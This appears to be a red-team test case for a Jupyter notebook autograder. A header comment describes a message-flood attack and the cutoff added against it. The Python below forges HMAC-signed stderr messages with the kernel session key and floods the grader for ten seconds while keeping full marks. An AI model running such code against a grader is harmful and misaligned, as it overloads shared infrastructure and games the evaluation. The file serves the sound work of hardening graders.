# Attack 55, a flood of empty signed messages: a cell of its own, after every test, sends empty
# stderr streams straight from the kernel's IO thread (each signed with the session's key, a new
# id each), about 40,000 a second. Each cost no byte of the output budget, yet the grader decoded
# every one: most of a core of the worker for as long as the cell ran, unflagged, and a notebook
# may run for 1,800 s. Past max_messages in one cell the notebook now stops there, as at an
# unreadable message (the red team's version flooded for 27 s; 10 s shows the same).
# Why: full marks: the honest equivalent is the solution (the notebook stops at its own cell,
#   after every test).
# ruff: noqa
# fmt: off
### AFTER em_plot
import time as _t, json as _j, threading as _th
_k = get_ipython().kernel
_s = _k.session
_p = _s.pack(_k.get_parent()['header'])
_pre = b'{"msg_type":"stream","username":"u","session":"' + _s.session.encode() + b'","date":"2020-01-01T00:00:00.000000Z","version":"5.3","msg_id":"'
_md, _ct = b'{}', b'{"name":"stderr","text":""}'
_cnt = [0]
_done = _th.Event()
def _burst():
    sock = _k.iopub_thread.socket
    end = _t.time() + 0.05
    while _t.time() < end:
        for _ in range(200):
            _cnt[0] += 1
            h = _pre + str(_cnt[0]).encode() + b'"}'
            a = _s.auth.copy()
            for part in (h, _p, _md, _ct):
                a.update(part)
            sock.send_multipart([b'stream.stderr', b'<IDS|MSG>', a.hexdigest().encode(), h, _p, _md, _ct])
    _done.set()
_stop = _t.time() + 10
while _t.time() < _stop:
    _done.clear()
    _k.iopub_thread.schedule(_burst)
    _done.wait(1)
import sys as _sys
_sys.__stderr__.write(f"sent {_cnt[0]}\n")
